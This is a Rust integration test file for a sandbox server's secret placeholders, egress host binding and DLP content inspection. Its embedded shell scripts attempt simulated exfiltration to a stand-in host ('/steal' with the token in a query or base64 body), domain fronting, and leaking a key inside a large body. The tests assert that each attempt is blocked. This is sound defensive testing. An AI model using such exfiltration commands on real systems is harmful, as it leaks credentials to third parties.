//! Secret custody and content inspection: real sandboxes, real clients,
//! real HTTP and HTTPS servers on loopback standing in for internet hosts.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::time::{Duration, Instant};

use common::governed::{events_until, policy, sh_request};
use common::upstream::{TestCa, Upstream};
use common::Server;
use reqwest::Method;
use superserver_wire::{
    CreateSandboxRequest, EgressDecision, ExecRequest, ExecResult, NetworkSpec, PutSecretRequest, RunRequest,
};

const HOSTS: &str = "\"api.example.test\" = \"127.0.0.1\"\n\"other.example.test\" = \"127.0.0.1\"\n\
                     \"secure.example.test\" = \"127.0.0.1\"\n";

/// A value no test file holds, so finding it anywhere means it leaked.
fn fresh_value(prefix: &str) -> String {
    let mut b = [0u8; 12];
    getrandom::getrandom(&mut b).unwrap();
    format!("{prefix}-{}", hex::encode(b))
}

async fn run(s: &Server, script: &str, network: NetworkSpec, secrets: &[&str], env: &[(&str, &str)]) -> ExecResult {
    let req = RunRequest {
        secrets: secrets.iter().map(|s| s.to_string()).collect(),
        env: env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        ..sh_request(script, network)
    };
    s.run_req(req).await
}

/// The open alerts about a sandbox, once there is one.
async fn alerts_about(s: &Server, sandbox: &str) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let (status, v) = common::call(s, Some(&s.admin_key), Method::GET, "/v1/alerts", None).await;
        assert!(status.is_success(), "{v}");
        let mine: Vec<serde_json::Value> = v["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["service"].as_str() == Some(&format!("sandbox:{sandbox}")))
            .cloned()
            .collect();
        if !mine.is_empty() {
            return mine;
        }
        assert!(Instant::now() < deadline, "no alert about {sandbox}: {v}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Every file of the data directory, and the server's output, without `value`.
fn assert_nowhere_on_disk(s: &Server, value: &str) {
    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                walk(&p, out);
            } else if p.is_file() {
                out.push(p);
            }
        }
    }
    let mut files = Vec::new();
    walk(&s.data_dir(), &mut files);
    files.push(s.stdout_path());
    for f in files {
        let Ok(bytes) = std::fs::read(&f) else { continue };
        assert!(!bytes.windows(value.len()).any(|w| w == value.as_bytes()), "the value is in {}", f.display());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn placeholders_become_values_only_on_the_way_to_bound_hosts() {
    let ca = TestCa::new("test public CA");
    let dir = tempfile::tempdir().unwrap();
    let ca_file = dir.path().join("ca.pem");
    std::fs::write(&ca_file, &ca.pem).unwrap();
    let s =
        Server::start_with(&format!("[egress]\nextra_ca_file = \"{}\"\n[egress.hosts]\n{HOSTS}", ca_file.display()))
            .await;
    let api = Upstream::start("api").await;
    let secure = Upstream::start_tls("secure", "secure.example.test", &ca).await;
    let value = fresh_value("tok");
    let put = PutSecretRequest {
        value: value.clone(),
        hosts: vec!["api.example.test".into(), "secure.example.test".into()],
        header: Some("Authorization".into()),
        template: Some("Bearer {value}".into()),
    };
    let info = s.client.put_secret("API_TOKEN", &put).await.unwrap();
    assert_eq!(info.hosts, ["api.example.test", "secure.example.test"]);

    let script = r#"
echo "env=$API_TOKEN"
curl -sS -m 10 http://api.example.test:PORT/echo/plain -H "X-Token: $API_TOKEN" -d "token=$API_TOKEN"; echo " plain=$?"
curl -sS -m 10 https://secure.example.test:TLSPORT/echo/tls -H "Authorization: Bearer $API_TOKEN"; echo " tls=$?"
python3 - <<'PY'
import base64, os, urllib.request as u
t = os.environ["API_TOKEN"]
req = u.Request("http://api.example.test:PORT/basic")
req.add_header("Authorization", "Basic " + base64.b64encode(("x-access-token:" + t).encode()).decode())
print("basic:", u.urlopen(req, timeout=10).read().decode().strip())
PY
curl -sS -m 10 -o /dev/null -w 'leak-query=%{http_code}\n' "http://other.example.test:PORT/steal?t=$API_TOKEN"
curl -sS -m 10 -o /dev/null -w 'leak-b64=%{http_code}\n' http://other.example.test:PORT/steal -d "$(printf %s "$API_TOKEN" | base64)"
curl -sS -m 10 -o /dev/null -w 'leak-tls=%{http_code}\n' https://secure.example.test:TLSPORT/ok -H "Host: other.example.test"
curl -sS -m 10 -w ' plain-other=%{http_code}\n' http://other.example.test:PORT/innocent
"#
    .replace("TLSPORT", &secure.port.to_string())
    .replace("PORT", &api.port.to_string());
    let r = run(
        &s,
        &script,
        policy(&["api.example.test", "other.example.test", "secure.example.test"], &[]),
        &["API_TOKEN"],
        &[],
    )
    .await;
    let out = format!("{}\n{}", r.stdout, r.stderr);
    // The sandbox sees a placeholder, never the value, even in echoed responses.
    assert!(!out.contains(&value), "the value reached the sandbox:\n{out}");
    let placeholder = r.stdout.lines().find_map(|l| l.strip_prefix("env=")).unwrap().to_string();
    assert!(placeholder.starts_with("ssph_api_token_") && placeholder.len() > 30, "{placeholder}");
    for want in [
        "upstream api: POST /echo/plain",
        " plain=0",
        "upstream secure: GET /echo/tls",
        " tls=0",
        "basic: upstream api: GET /basic",
        "leak-query=403",
        "leak-b64=403",
        "leak-tls=403",
        "upstream api: GET /innocent",
        " plain-other=200",
    ] {
        assert!(out.contains(want), "missing {want:?} in:\n{out}");
    }
    // The echo came back masked, byte for byte.
    let masked = "*".repeat(value.len());
    assert!(r.stdout.contains(&format!("Authorization: Bearer {masked}")), "{}", r.stdout);
    assert!(r.stdout.contains(&format!("X-Token: {masked}")) && r.stdout.contains(&format!("token={masked}")));

    // The bound hosts received the value where the placeholder was, and in
    // the configured header; the other host received no placeholder at all.
    let seen = api.seen.lock().unwrap().clone();
    let plain = seen.iter().find(|x| x.path == "/echo/plain").unwrap();
    let header = |x: &common::upstream::Seen, k: &str| x.headers.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
    assert_eq!(header(plain, "authorization"), Some(format!("Bearer {value}")));
    assert_eq!(header(plain, "x-token"), Some(value.clone()));
    assert_eq!(String::from_utf8_lossy(&plain.body), format!("token={value}"));
    let basic = seen.iter().find(|x| x.path == "/basic").unwrap();
    let creds = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, format!("x-access-token:{value}"));
    assert_eq!(header(basic, "authorization"), Some(format!("Basic {creds}")));
    let innocent = seen.iter().find(|x| x.path == "/innocent").unwrap();
    assert_eq!(header(innocent, "authorization"), None, "no value for a host it is not bound to");
    assert!(seen.iter().all(|x| x.path != "/steal"), "the leaking requests never left");
    let tls = secure.seen.lock().unwrap().clone();
    assert_eq!(
        header(tls.iter().find(|x| x.path == "/echo/tls").unwrap(), "authorization"),
        Some(format!("Bearer {value}"))
    );
    assert!(tls.iter().all(|x| x.path != "/ok"), "domain fronting is refused before anything leaves");

    // Each leak is a denial naming the secret (never its value) and an alert.
    let events = events_until(&s, &r.sandbox_id, |ev| {
        ev.iter().filter(|e| e.rule == "secret API_TOKEN is not bound to other.example.test").count() >= 2
    })
    .await;
    assert!(events.iter().all(|e| !serde_json::to_string(e).unwrap().contains(&value)));
    let alerts = alerts_about(&s, &r.sandbox_id).await;
    let text = alerts[0].to_string();
    assert!(
        text.contains("egress_secret") && text.contains("critical") && text.contains("other.example.test"),
        "{text}"
    );
    assert!(!text.contains(&value), "{text}");

    // Used by: the run's sandbox. The value is nowhere on disk or in the logs.
    let info = s.client.secret("API_TOKEN").await.unwrap();
    assert_eq!(info.used_by[0].sandbox_id, r.sandbox_id);
    assert!(!serde_json::to_string(&info).unwrap().contains(&value));
    assert_nowhere_on_disk(&s, &value);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_inspection_stops_secrets_in_bodies_raw_and_encoded() {
    let s = Server::start_with(&format!("[egress.hosts]\n{HOSTS}")).await;
    let api = Upstream::start("api").await;
    let value = fresh_value("deploy-key");
    let put = PutSecretRequest {
        value: value.clone(),
        hosts: vec!["deploy.example.test".into()],
        header: None,
        template: None,
    };
    s.client.put_secret("DEPLOY_KEY", &put).await.unwrap();
    // The sandbox does not hold DEPLOY_KEY, yet somehow has its value (say a
    // person pasted it into a file): it still may not send it anywhere.
    let aws = format!("AKIA{}", "QWERTYUIOPASDF23");
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLXBhcnQ";
    let script = r#"
post() { curl -sS -m 10 -o /dev/null -w "$1=%{http_code}\n" "http://api.example.test:PORT/$1" --data-binary @-; }
printf 'config: %s\n' "$LEAKED" | post raw
printf %s "$LEAKED" | base64 | post base64
printf '{"k":"%s"}' "$AWS" | post aws
printf 'token=%s' "$JWT" | post jwt
printf 'nothing to see' | post clean
# 3 MiB going out in pieces, the value near its end.
python3 -c "import os,sys; sys.stdout.write('x'*(3<<20) + os.environ['LEAKED'] + 'y'*100)" | post big
python3 -c "import sys; sys.stdout.write('z'*(3<<20))" | post bigclean
"#
    .replace("PORT", &api.port.to_string());
    let env = [("LEAKED", value.as_str()), ("AWS", aws.as_str()), ("JWT", jwt)];
    let r = run(&s, &script, policy(&["api.example.test"], &[]), &[], &env).await;
    for want in ["raw=403", "base64=403", "aws=403", "jwt=200", "clean=200", "big=403", "bigclean=200"] {
        assert!(r.stdout.contains(want), "missing {want} in:\n{}\n{}", r.stdout, r.stderr);
    }
    let paths = api.paths();
    assert!(paths.contains(&"/jwt".to_string()) && paths.contains(&"/clean".to_string()), "{paths:?}");
    assert!(paths.contains(&"/bigclean".to_string()), "{paths:?}");
    for blocked in ["/raw", "/base64", "/aws", "/big"] {
        assert!(!paths.contains(&blocked.to_string()), "{blocked} reached the server: {paths:?}");
    }
    let bigclean = api.seen.lock().unwrap().iter().find(|x| x.path == "/bigclean").unwrap().body.len();
    assert_eq!(bigclean, 3 << 20, "a long clean body arrives whole");

    // Events name the rule, never the secret.
    let events = events_until(&s, &r.sandbox_id, |ev| {
        ["dlp: custody:DEPLOY_KEY", "dlp: aws-access-key-id", "dlp (logged): jwt"]
            .iter()
            .all(|rule| ev.iter().any(|e| e.rule == *rule))
    })
    .await;
    let custody = events.iter().filter(|e| e.rule == "dlp: custody:DEPLOY_KEY").count();
    assert!(custody >= 3, "raw, base64 and the long body: {events:#?}");
    for e in &events {
        let text = serde_json::to_string(e).unwrap();
        assert!(!text.contains(&value) && !text.contains(&aws) && !text.contains(jwt), "{text}");
    }
    let logged = events.iter().find(|e| e.rule == "dlp (logged): jwt").unwrap();
    assert_eq!((logged.decision, logged.path.as_deref()), (EgressDecision::Allow, Some("/jwt")));
    let alerts = alerts_about(&s, &r.sandbox_id).await;
    assert!(alerts[0].to_string().contains("content inspection"), "{:?}", alerts);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_managed_from_the_api_and_the_cli_and_never_returned() {
    let s = Server::start_with(&format!("[pool]\nsize = 0\n[egress.hosts]\n{HOSTS}")).await;
    let value = fresh_value("cli-secret");
    // The CLI reads the value from standard input.
    let mut child = std::process::Command::new(common::bin())
        .args(["secrets", "set", "GH_TOKEN", "--host", "api.example.test", "--host", "*.example.org"])
        .args(["--header", "Authorization", "--template", "token {value}"])
        .env("SUPERSERVER_URL", &s.url)
        .env("SUPERSERVER_API_KEY", &s.admin_key)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(format!("{value}\n").as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    let ls = common::stdout_of(&s, &["secrets", "ls"]);
    assert!(ls.contains("GH_TOKEN") && ls.contains("*.example.org,api.example.test"), "{ls}");
    assert!(ls.contains("Authorization: token {value}") && !ls.contains(&value), "{ls}");
    let json = common::stdout_of(&s, &["secrets", "--json", "show", "GH_TOKEN"]);
    assert!(!json.contains(&value) && json.contains("\"updated_by\""), "{json}");

    // Replacing answers 200, creating 201; bad input is named.
    let body = serde_json::json!({"value": value, "hosts": ["api.example.test"]});
    let (status, v) = common::call(&s, Some(&s.admin_key), Method::PUT, "/v1/secrets/GH_TOKEN", Some(body)).await;
    assert_eq!(status.as_u16(), 200, "{v}");
    assert!(!v.to_string().contains(&value) && v.get("value").is_none(), "{v}");
    for (name, body, needle) in [
        ("bad-name", serde_json::json!({"value": "0123456789", "hosts": ["a.example.com"]}), "secret name"),
        ("X", serde_json::json!({"value": "0123456789", "hosts": []}), "at least one host"),
        ("X", serde_json::json!({"value": "short", "hosts": ["a.example.com"]}), "value must be"),
        (
            "X",
            serde_json::json!({"value": "0123456789", "hosts": ["a.example.com"], "header": "Host"}),
            "proxy's to set",
        ),
        ("X", serde_json::json!({"value": "0123456789", "hosts": ["a.example.com"], "extra": 1}), "unknown field"),
    ] {
        let (status, v) =
            common::call(&s, Some(&s.admin_key), Method::PUT, &format!("/v1/secrets/{name}"), Some(body)).await;
        assert_eq!(status.as_u16(), 400, "{name}: {v}");
        assert!(v.to_string().contains(needle), "{name}: {v} should say {needle}");
    }

    // Members run with secrets but do not manage them; viewers see names only.
    let (member, _) = common::tenant_with_key(&s, "team-a", "team", superserver_wire::Role::Member).await;
    let body = serde_json::json!({"value": "0123456789", "hosts": ["a.example.com"]});
    let (status, v) = common::call(&s, Some(&member), Method::PUT, "/v1/secrets/MINE", Some(body)).await;
    assert_eq!(status.as_u16(), 403, "{v}");
    let (status, v) = common::call(&s, Some(&member), Method::GET, "/v1/secrets", None).await;
    assert!(status.is_success() && v["secrets"].as_array().unwrap().is_empty(), "another tenant's are not listed: {v}");
    let body = serde_json::json!({"command": ["true"], "network": {"mode": "policy"}, "secrets": ["GH_TOKEN"]});
    let (status, v) = common::call(&s, Some(&member), Method::POST, "/v1/run", Some(body)).await;
    assert_eq!(status.as_u16(), 400, "another tenant's secret does not exist for it: {v}");

    // Secrets need a governed network; a variable of the same name is refused.
    let body = serde_json::json!({"command": ["true"], "secrets": ["GH_TOKEN"]});
    let (status, v) = common::call(&s, Some(&s.admin_key), Method::POST, "/v1/run", Some(body)).await;
    assert!(status.as_u16() == 400 && v.to_string().contains("network.mode"), "{v}");
    let body = serde_json::json!({"command": ["true"], "network": {"mode": "policy"}, "secrets": ["GH_TOKEN"], "env": {"GH_TOKEN": "x"}});
    let (status, v) = common::call(&s, Some(&s.admin_key), Method::POST, "/v1/run", Some(body)).await;
    assert!(status.as_u16() == 400 && v.to_string().contains("own name"), "{v}");

    // A persistent sandbox holds it (the CLI's --secret implies a network);
    // its files and environment have only the placeholder.
    let out = common::stdout_of(&s, &["sandbox", "create", "--secret", "GH_TOKEN", "--allow", "api.example.test"]);
    let id = out.trim().to_string();
    let info = s.client.get_sandbox(&id).await.unwrap();
    assert_eq!(info.secrets, ["GH_TOKEN"]);
    let req = ExecRequest {
        command: common::argv(&[
            "sh",
            "-c",
            "env > /workspace/env.txt; cat /proc/self/environ | tr '\\0' '\\n' | grep GH_TOKEN",
        ]),
        ..Default::default()
    };
    let r = s.client.exec(&id, &req).await.unwrap();
    assert!(r.stdout.starts_with("GH_TOKEN=ssph_gh_token_") && !r.stdout.contains(&value), "{}", r.stdout);
    let superserver_client::FileContent::File(file) = s.client.get_file(&id, "/workspace/env.txt").await.unwrap()
    else {
        panic!("env.txt is a file")
    };
    let file = String::from_utf8_lossy(&file).into_owned();
    assert!(file.contains("GH_TOKEN=ssph_gh_token_") && !file.contains(&value), "{file}");
    let info = s.client.secret("GH_TOKEN").await.unwrap();
    assert_eq!((info.used_by[0].sandbox_id.as_str(), info.used_by[0].state.as_deref()), (id.as_str(), Some("running")));
    s.client.delete_sandbox(&id).await.unwrap();

    // Removal, audited; the value is in no file of the data directory.
    common::stdout_of(&s, &["secrets", "rm", "GH_TOKEN"]);
    let (status, v) = common::call(&s, Some(&s.admin_key), Method::GET, "/v1/secrets/GH_TOKEN", None).await;
    assert_eq!((status.as_u16(), common::error_code(&v)), (404, "secret_not_found"), "{v}");
    let audit = common::stdout_of(&s, &["audit"]);
    assert!(audit.contains("secret.set") && audit.contains("secret.delete") && !audit.contains(&value), "{audit}");
    let req = CreateSandboxRequest {
        network: Some(policy(&[], &[])),
        secrets: vec!["GH_TOKEN".into()],
        ..Default::default()
    };
    let e = s.client.create_sandbox(&req).await.unwrap_err().to_string();
    assert!(e.contains("no secret named GH_TOKEN"), "{e}");
    assert_nowhere_on_disk(&s, &value);
    s.assert_no_sandbox_leftovers(false).await;
}
